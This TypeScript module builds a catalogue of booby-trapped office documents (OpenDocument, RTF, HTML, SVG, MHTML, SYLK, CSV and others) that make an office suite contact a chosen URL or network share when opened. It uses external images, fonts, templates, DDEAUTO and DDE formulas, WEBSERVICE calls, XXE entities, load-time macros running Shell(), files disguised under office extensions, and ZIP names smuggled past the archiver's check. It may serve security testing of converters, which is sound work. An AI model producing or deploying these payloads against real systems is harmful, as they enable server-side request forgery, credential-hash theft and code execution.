import { buffer } from 'node:stream/consumers';
import { ZipFile } from 'yazl';

/** Target of a reference in a document. */
export interface Target {
  /** A URL on the network, or a file on the machine. */
  readonly url: string;
  /** The same as a plain name: `\\host\share\x` or `/path/x`. */
  readonly path: string;
}

/** A document that makes an unprotected office suite access a target when it is opened. */
export interface LeakFile {
  readonly name: string;
  /** Extension with which the file is served. */
  readonly extension: string;
  bytes(target: Target): Promise<Buffer>;
}

/** A part of an archive: its content, or the file that it points to as a symbolic link. */
export type Part = string | Buffer | { readonly linkTo: string };

/** A symbolic link, as the mode of a file. */
const LINK_MODE = 0o120777;

/** Packs parts into a ZIP file. `mimetype` comes first and uncompressed, as OpenDocument requires. */
export async function pack(parts: Readonly<Record<string, Part>>): Promise<Buffer> {
  const zip = new ZipFile();
  const order = Object.keys(parts).sort((one) => (one === 'mimetype' ? -1 : 0));
  for (const name of order) {
    const part = parts[name]!;
    const isLink = typeof part === 'object' && 'linkTo' in part;
    zip.addBuffer(Buffer.from(isLink ? part.linkTo : part), withoutParents(name), {
      compress: name !== 'mimetype',
      ...(isLink && { mode: LINK_MODE }),
    });
  }
  zip.end();
  return withParents(await buffer(zip.outputStream as NodeJS.ReadableStream));
}

/** The library rejects names that lead out of the archive, so they are put in afterwards. */
const [PARENT, STAND_IN] = ['./', '\x01\x02/'];

function withoutParents(name: string): string {
  return name.replaceAll(PARENT, STAND_IN);
}

function withParents(archive: Buffer): Buffer {
  return Buffer.from(archive.toString('latin1').replaceAll(STAND_IN, PARENT), 'latin1');
}

/** Escapes a text for an XML attribute. */
export function quoted(text: string): string {
  return text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');
}

/** An image of one pixel. */
export const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

// Parts that all Office Open XML packages have in common.

export const RELS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PACKAGE_RELS = 'http://schemas.openxmlformats.org/package/2006/relationships';
export const WORD = `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${RELS}" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"`;
export const SHEET = `xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${RELS}"`;
export const SLIDE = `xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:r="${RELS}" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"`;
export const SIZE = '<a:ext cx="999999" cy="999999"/>';

/** A relationship of a part. External unless specified otherwise. */
export type Link = readonly [id: string, type: string, target: string, mode?: 'Internal'];

/** Writes the relationships of a part. */
export function relations(...links: readonly Link[]): string {
  const items = links.map(([id, type, target, mode = 'External']) => {
    const kind = type.includes(':') ? type : `${RELS}/${type}`;
    return `<Relationship Id="${id}" Type="${kind}" Target="${quoted(target)}" TargetMode="${mode}"/>`;
  });
  return `<?xml version="1.0"?><Relationships xmlns="${PACKAGE_RELS}">${items.join('')}</Relationships>`;
}

/** Writes the content types of a package. */
export function types(parts: Readonly<Record<string, string>>): string {
  const overrides = Object.entries(parts).map(
    ([part, type]) =>
      `<Override PartName="/${part}" ContentType="application/vnd.openxmlformats-officedocument.${type}+xml"/>`,
  );
  return `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/><Default Extension="svg" ContentType="image/svg+xml"/><Default Extension="vml" ContentType="application/vnd.openxmlformats-officedocument.vmlDrawing"/>${overrides.join('')}</Types>`;
}

/** Creates the leak files of one kind of document. */
export const files = <Parts>(
  extension: string,
  list: Readonly<Record<string, (target: Target) => Parts>>,
  write: (parts: Parts) => Promise<Buffer>,
): LeakFile[] =>
  Object.entries(list).map(([name, parts]) => ({
    name: `${extension}: ${name}`,
    extension,
    bytes: (target) => write(parts(target)),
  }));

const OASIS = 'urn:oasis:names:tc:opendocument:xmlns';
const NAMESPACES = [
  ...[
    'office',
    'style',
    'text',
    'table',
    'draw:drawing',
    'fo:xsl-fo-compatible',
    'svg:svg-compatible',
    'script',
    'form',
    'presentation',
    'meta',
  ].map((entry) => {
    const [prefix, name = prefix] = entry.split(':');
    return `xmlns:${prefix}="${OASIS}:${name}:1.0"`;
  }),
  `xmlns:of="${OASIS}:of:1.2"`,
  'xmlns:xlink="http://www.w3.org/1999/xlink"',
  'xmlns:ooo="http://openoffice.org/2004/office"',
].join(' ');

type Kind = 'text' | 'spreadsheet' | 'presentation';

interface Document {
  readonly kind: Kind;
  readonly body: string;
  /** Before the body: fonts, scripts, styles. */
  readonly head?: string;
  readonly meta?: string;
}

const EXTENSIONS = { text: 'odt', spreadsheet: 'ods', presentation: 'odp' } as const;
const link = (url: string) =>
  `xlink:href="${quoted(url)}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"`;
const paragraph = (inner: string) => `<text:p>text ${inner}</text:p>`;
const frame = (inner: string) =>
  `<draw:frame svg:x="1cm" svg:y="1cm" svg:width="5cm" svg:height="5cm">${inner}</draw:frame>`;
const sheet = (cell: string, before = '') =>
  `${before}<table:table table:name="S"><table:table-row>${cell}</table:table-row></table:table>`;
const formula = (text: string) => sheet(`<table:table-cell table:formula="${quoted(text)}"/>`);
const slide = (inner: string) => `<draw:page draw:name="p" draw:master-page-name="m">${inner}</draw:page>`;

const LISTENER = (script: string) =>
  `<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" ${link(script)}/></office:event-listeners></office:scripts>`;

/** Ways in which an OpenDocument text, spreadsheet or presentation can refer to external files. */
const DOCUMENTS: Readonly<Record<string, (target: Target) => Document>> = {
  picture: ({ url }) => ({ kind: 'text', body: paragraph(frame(`<draw:image ${link(url)}/>`)) }),
  'picture by a path that leaves the archive': ({ path }) => ({
    kind: 'text',
    body: paragraph(frame(`<draw:image ${link(`${'./'.repeat(20)}${path.replace(/^[\\/]+/, '')}`)}/>`)),
  }),
  'picture of a share': ({ path }) => ({
    kind: 'text',
    body: paragraph(frame(`<draw:image ${link(`file:${path.replaceAll('\\', '/')}`)}/>`)),
  }),
  object: ({ url }) => ({ kind: 'text', body: paragraph(frame(`<draw:object ${link(url)}/>`)) }),
  'ole object': ({ url }) => ({ kind: 'text', body: paragraph(frame(`<draw:object-ole ${link(url)}/>`)) }),
  'floating frame': ({ url }) => ({
    kind: 'text',
    body: paragraph(frame(`<draw:floating-frame ${link(url)}/>`)),
  }),
  plugin: ({ url }) => ({
    kind: 'text',
    body: paragraph(frame(`<draw:plugin ${link(url)} draw:mime-type="application/vnd.sun.star.media"/>`)),
  }),
  applet: ({ url }) => ({
    kind: 'text',
    body: paragraph(frame(`<draw:applet ${link(url)} draw:code="x" draw:archive="${quoted(url)}"/>`)),
  }),
  section: ({ url }) => ({
    kind: 'text',
    body: `<text:section text:name="s"><text:section-source ${link(url)}/>${paragraph('')}</text:section>`,
  }),
  'section by dde': ({ path }) => ({
    kind: 'text',
    body: `<text:section text:name="s"><office:dde-source office:dde-application="soffice" office:dde-topic="${quoted(path)}" office:dde-item="x" office:automatic-update="true"/>${paragraph('')}</text:section>`,
  }),
  'page background': ({ url }) => ({
    kind: 'text',
    head: `<office:automatic-styles><style:page-layout style:name="a"><style:page-layout-properties fo:page-width="21cm" fo:page-height="29cm"><style:background-image ${link(url)}/></style:page-layout-properties></style:page-layout></office:automatic-styles><office:master-styles><style:master-page style:name="Standard" style:page-layout-name="a"/></office:master-styles>`,
    body: paragraph(''),
  }),
  'paragraph background': ({ url }) => ({
    kind: 'text',
    head: `<office:automatic-styles><style:style style:name="P" style:family="paragraph"><style:paragraph-properties><style:background-image ${link(url)}/></style:paragraph-properties></style:style></office:automatic-styles>`,
    body: '<text:p text:style-name="P">text</text:p>',
  }),
  'list picture': ({ url }) => ({
    kind: 'text',
    head: `<office:automatic-styles><text:list-style style:name="L"><text:list-level-style-image text:level="1" ${link(url)}/></text:list-style></office:automatic-styles>`,
    body: `<text:list text:style-name="L"><text:list-item>${paragraph('')}</text:list-item></text:list>`,
  }),
  'fill picture': ({ url }) => ({
    kind: 'text',
    head: `<office:styles><draw:fill-image draw:name="F" ${link(url)}/></office:styles><office:automatic-styles><style:style style:name="G" style:family="graphic"><style:graphic-properties draw:fill="bitmap" draw:fill-image-name="F"/></style:style></office:automatic-styles>`,
    body: paragraph('<draw:rect draw:style-name="G" svg:width="5cm" svg:height="5cm"/>'),
  }),
  font: ({ url }) => ({
    kind: 'text',
    head: `<office:font-face-decls><style:font-face style:name="Leak" svg:font-family="Leak"><svg:font-face-src><svg:font-face-uri ${link(url)}><svg:font-face-format svg:string="truetype"/></svg:font-face-uri></svg:font-face-src></style:font-face></office:font-face-decls><office:automatic-styles><style:style style:name="T" style:family="text"><style:text-properties style:font-name="Leak"/></style:style></office:automatic-styles>`,
    body: paragraph('<text:span text:style-name="T">text</text:span>'),
  }),
  'form picture': ({ url }) => ({
    kind: 'text',
    body: `<office:forms><form:form form:name="f" ${link(url)}><form:image form:id="i" form:image-data="${quoted(url)}"/></form:form></office:forms>${paragraph('<draw:control draw:control="i" svg:width="5cm" svg:height="5cm"/>')}`,
  }),
  'database field': ({ url }) => ({
    kind: 'text',
    body: `<text:p><text:database-display text:database-name="${quoted(url)}" text:table-name="t" text:column-name="c">x</text:database-display></text:p>`,
  }),
  template: ({ url }) => ({
    kind: 'text',
    body: paragraph(''),
    meta: `<meta:template ${link(url)} meta:date="2001-01-01T00:00:00"/>`,
  }),
  reload: ({ url }) => ({
    kind: 'text',
    body: paragraph(''),
    meta: `<meta:auto-reload ${link(url)} meta:delay="PT0S"/>`,
  }),
  'script on load': ({ url }) => ({ kind: 'text', head: LISTENER(url), body: paragraph('') }),
  'macro on load': ({ path }) => ({
    kind: 'text',
    head: LISTENER(`vnd.sun.star.script:Standard.Module1.Main?language=Basic&location=document#${path}`),
    body: paragraph(''),
  }),
  'linked sheet': ({ url }) => ({
    kind: 'spreadsheet',
    body: `<table:table table:name="S"><table:table-source ${link(url)} table:table-name="T" table:refresh-delay="PT1S"/><table:table-row><table:table-cell/></table:table-row></table:table>`,
  }),
  'linked cells': ({ url }) => ({
    kind: 'spreadsheet',
    body: sheet(
      `<table:table-cell><table:cell-range-source ${link(url)} table:name="A1:B2" table:last-column-spanned="2" table:last-row-spanned="2"/></table:table-cell>`,
    ),
  }),
  'web service': ({ url }) => ({ kind: 'spreadsheet', body: formula(`of:=WEBSERVICE("${url}")`) }),
  'reference by address': ({ url }) => ({ kind: 'spreadsheet', body: formula(`of:=['${url}'#$S.A1]`) }),
  'dde formula': ({ path }) => ({
    kind: 'spreadsheet',
    body: formula(`of:=DDE("soffice";"${path}";"S.A1")`),
  }),
  'picture on a sheet': ({ url }) => ({
    kind: 'spreadsheet',
    body: `<table:table table:name="S"><table:shapes>${frame(`<draw:image ${link(url)}/>`)}</table:shapes><table:table-row><table:table-cell/></table:table-row></table:table>`,
  }),
  'picture on a slide': ({ url }) => ({
    kind: 'presentation',
    body: slide(frame(`<draw:image ${link(url)}/>`)),
  }),
  'sound of a slide': ({ url }) => ({
    kind: 'presentation',
    head: `<office:automatic-styles><style:style style:name="D" style:family="drawing-page"><style:drawing-page-properties presentation:transition-type="automatic"><presentation:sound ${link(url)}/></style:drawing-page-properties></style:style></office:automatic-styles>`,
    body: '<draw:page draw:name="p" draw:style-name="D" draw:master-page-name="m"/>',
  }),
  'film on a slide': ({ url }) => ({
    kind: 'presentation',
    body: slide(frame(`<draw:plugin ${link(url)} draw:mime-type="application/vnd.sun.star.media"/>`)),
  }),
};

const MACRO =
  '<?xml version="1.0"?><script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">Sub Main&#10;Shell("/bin/sh -c true")&#10;End Sub</script:module>';

function parts({ kind, body, head = '', meta = '' }: Document): Readonly<Record<string, string>> {
  const type = `application/vnd.oasis.opendocument.${kind}`;
  const master = head.includes('office:master-styles')
    ? ''
    : '<office:master-styles><style:master-page style:name="m" style:page-layout-name="l"/></office:master-styles>';
  return {
    mimetype: type,
    'META-INF/manifest.xml': `<?xml version="1.0"?><m:manifest xmlns:m="${OASIS}:manifest:1.0"><m:file-entry m:full-path="/" m:media-type="${type}"/><m:file-entry m:full-path="content.xml" m:media-type="text/xml"/><m:file-entry m:full-path="styles.xml" m:media-type="text/xml"/><m:file-entry m:full-path="meta.xml" m:media-type="text/xml"/><m:file-entry m:full-path="Basic/Standard/Module1.xml" m:media-type="text/xml"/></m:manifest>`,
    'content.xml': `<?xml version="1.0"?><office:document-content ${NAMESPACES} office:version="1.3">${head.replace(/<office:(styles|master-styles)>.*?<\/office:\1>/g, '')}<office:body><office:${kind}>${body}</office:${kind}></office:body></office:document-content>`,
    'styles.xml': `<?xml version="1.0"?><office:document-styles ${NAMESPACES} office:version="1.3">${head.replace(/<office:scripts>.*<\/office:scripts>/, '')}${master}</office:document-styles>`,
    'meta.xml': `<?xml version="1.0"?><office:document-meta ${NAMESPACES} office:version="1.3"><office:meta>${meta}</office:meta></office:document-meta>`,
    'Basic/Standard/Module1.xml': MACRO,
  };
}

/** The same as one flat XML file. */
function flat({ kind, body, head = '', meta = '' }: Document): string {
  return `<?xml version="1.0"?><office:document ${NAMESPACES} office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.${kind}"><office:meta>${meta}</office:meta>${head}<office:body><office:${kind}>${body}</office:${kind}></office:body></office:document>`;
}

/** OpenDocument texts, spreadsheets and presentations with external references. */
export const ODF_LEAKS: readonly LeakFile[] = Object.entries(DOCUMENTS).map(([name, make]) => {
  const extension = EXTENSIONS[make({ url: '', path: '' }).kind];
  return { name: `${extension}: ${name}`, extension, bytes: (target) => pack(parts(make(target))) };
});

const escaped = (text: string) => text.replaceAll('\\', '\\\\');
const field = (code: string) => `{\\field\\flddirty{\\*\\fldinst {${code}}}{\\fldrslt old}}`;
const shape = (properties: Readonly<Record<string, string>>) =>
  `{\\shp{\\*\\shpinst\\shpleft0\\shptop0\\shpright2000\\shpbottom2000${Object.entries(properties)
    .map(([name, value]) => `{\\sp{\\sn ${name}}{\\sv ${value}}}`)
    .join('')}}}`;

const RTF: Readonly<Record<string, (target: Target) => string>> = {
  'picture field': ({ url }) => field(`INCLUDEPICTURE "${url}" \\\\d`),
  'picture field of a share': ({ path }) => field(`INCLUDEPICTURE "${escaped(escaped(path))}" \\\\d`),
  'text field': ({ url }) => field(`INCLUDETEXT "${url}"`),
  'dde field': ({ path }) => field(`DDEAUTO soffice "${escaped(path)}" x`),
  'link field': ({ url }) => field(`LINK Word.Document.8 "${url}" x \\\\a`),
  'hyperlink field': ({ url }) => field(`HYPERLINK "${url}"`),
  template: ({ url }) => `{\\*\\template ${url}}`,
  'next file': ({ url }) => `{\\*\\nextfile ${url}}`,
  'linked picture': ({ url }) => shape({ shapeType: '75', pibName: url, pibFlags: '14' }),
  'linked fill': ({ url }) =>
    shape({ shapeType: '1', fillType: '3', fillBlipName: url, fillBlipFlags: '14' }),
  'linked object': ({ url }) =>
    `{\\object\\objautlink\\objupdate\\objw999\\objh999{\\*\\objclass Word.Document.8}{\\*\\objname ${url}}{\\*\\objdata ${ole1(url)}}{\\result x}}`,
  'html object': ({ url }) =>
    `{\\object\\objhtml\\objupdate{\\*\\objclass htmlfile}{\\*\\objdata ${ole1(url)}}{\\result x}}`,
  'sub document': ({ url }) => `{\\subdocument0 ${url}}`,
  'mail merge': ({ url }) => `{\\*\\mailmerge{\\mmdatasource ${url}}{\\mmlinktoquery}}`,
};

/** An OLE 1.0 linked object, as hexadecimal digits (MS-OLEDS 2.2.6). */
function ole1(url: string): string {
  const text = (value: string) => {
    const bytes = Buffer.from(`${value}\0`);
    const length = Buffer.alloc(4);
    length.writeUInt32LE(bytes.length);
    return Buffer.concat([length, bytes]);
  };
  const head = Buffer.from('0105000001000000', 'hex');
  return Buffer.concat([head, text('Word.Document.8'), text(url), text('x'), Buffer.alloc(16)]).toString(
    'hex',
  );
}

const html = ({ url }: Target) =>
  `<html><head><link rel=stylesheet href="${url}"><style>@import url("${url}");body{background:url("${url}")}</style></head><body background="${url}"><img src="${url}"><iframe src="${url}"></iframe><object data="${url}"></object><embed src="${url}"><p>text</body></html>`;

const svg = ({ url }: Target) =>
  `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="99" height="99"><image width="99" height="99" xlink:href="${url}"/><text>text</text></svg>`;

const mhtml = (target: Target) =>
  `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="x"\r\n\r\n--x\r\nContent-Type: text/html\r\nContent-Location: ${target.url}\r\n\r\n${html(target)}\r\n--x--\r\n`;

const wordMl = ({ url }: Target) =>
  `<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml" xmlns:v="urn:schemas-microsoft-com:vml"><w:body><w:p><w:r><w:pict><v:shape style="width:99pt;height:99pt"><v:imagedata src="${url}"/></v:shape></w:pict></w:r></w:p></w:body></w:wordDocument>`;

const entity = ({ url }: Target) =>
  `<?xml version="1.0"?><!DOCTYPE x SYSTEM "${url}" [<!ENTITY e SYSTEM "${url}">]>${flat({ kind: 'text', body: '<text:p>&e;</text:p>' }).replace(/^<\?xml.*?\?>/, '')}`;

const odf = (name: string) => (target: Target) => flat(DOCUMENTS[name]!(target));

/** The content of the file, and the extensions with which it is served. */
const DISGUISES: ReadonlyArray<readonly [string, readonly string[], (target: Target) => string | Buffer]> = [
  ['html', ['doc', 'xls', 'docx', 'rtf', 'ppt'], html],
  ['html behind spaces', ['doc', 'xls'], (target) => `\ufeff  \r\n\r\n${html(target)}`],
  ['svg', ['doc', 'odt'], svg],
  ['mhtml', ['doc', 'xls'], mhtml],
  ['wordml', ['doc'], wordMl],
  ['flat text', ['doc', 'odt', 'docx'], odf('picture')],
  ['flat sheet', ['xls', 'ods'], odf('web service')],
  ['flat show', ['ppt'], odf('picture on a slide')],
  ['flat text with an entity', ['odt', 'doc'], entity],
  ['table with a formula', ['xls', 'csv'], ({ url }) => `a;b\n=WEBSERVICE("${url}");='${url}'#$S.A1\n`],
  ['sylk', ['xls', 'csv'], ({ url }) => `ID;PWXL;N;E\r\nC;Y1;X1;K0;EWEBSERVICE("${url}")\r\nE\r\n`],
  ['shortcut', ['doc'], ({ url }) => `[InternetShortcut]\r\nURL=${url}\r\n`],
  ['web query', ['xls'], ({ url }) => `WEB\r\n1\r\n${url}\r\n`],
  ['m3u', ['ppt'], ({ url }) => `#EXTM3U\n${url}\n`],
  ['a picture first', ['doc'], (target) => Buffer.concat([PIXEL, Buffer.from(html(target))])],
];

/** RTF documents with external references, and files with an office extension that are not office documents. */
export const TEXT_LEAKS: readonly LeakFile[] = [
  ...Object.entries(RTF).map(([name, code]) => ({
    name: `rtf: ${name}`,
    extension: 'rtf',
    bytes: async (target: Target) => Buffer.from(`{\\rtf1\\ansi text ${code(target)}\\par}`),
  })),
  ...DISGUISES.flatMap(([name, extensions, content]) =>
    extensions.map((extension) => ({
      name: `${name} called ${extension}`,
      extension,
      bytes: async (target: Target) => Buffer.from(content(target)),
    })),
  ),
];
